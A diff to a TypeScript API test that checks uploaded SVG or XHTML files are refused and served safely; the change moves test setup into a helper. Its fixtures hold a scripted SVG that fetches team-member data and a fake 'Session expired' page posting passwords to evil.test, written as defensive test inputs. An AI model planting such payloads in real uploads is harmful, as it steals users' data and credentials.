@@ -8,7 +8,7 @@ import { expect } from 'chai';
 import { files as filesTable } from '../../drizzle/schema';
 import { IMAGE_CSP, DOWNLOAD_CSP } from '../../server/routes/files';
 import { PNG_BYTES, SURVEY_CSV } from './fixtures';
-import { startTestApp, type ApiAgent, type TestApp } from './test-app';
+import { startOnDemoProject, type ApiAgent, type TestApp } from './test-app';
 
 const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'/api/team/members\')"><script>alert(1)</script></svg>';
 const XHTML = '<html xmlns="http://www.w3.org/1999/xhtml"><body><h1>Session expired</h1><form action="https://evil.test/"><input name="password" type="password"/></form></body></html>';
@@ -18,11 +18,7 @@ describe('API: uploads are parsed before storing and served safely', () => {
   let t: TestApp;
   let designer: ApiAgent;
   let files: string;
-  before(async () => {
-    t = await startTestApp();
-    designer = await t.signInAs('designer');
-    files = `/api/projects/${t.seeded!.demoProjectId}/files`;
-  });
+  before(async () => ({ t, designer, files } = await startOnDemoProject()));
   after(async () => { await t.close(); });
 
   it('refuses an SVG or an XHTML page uploaded as a survey (400), storing nothing', async () => {
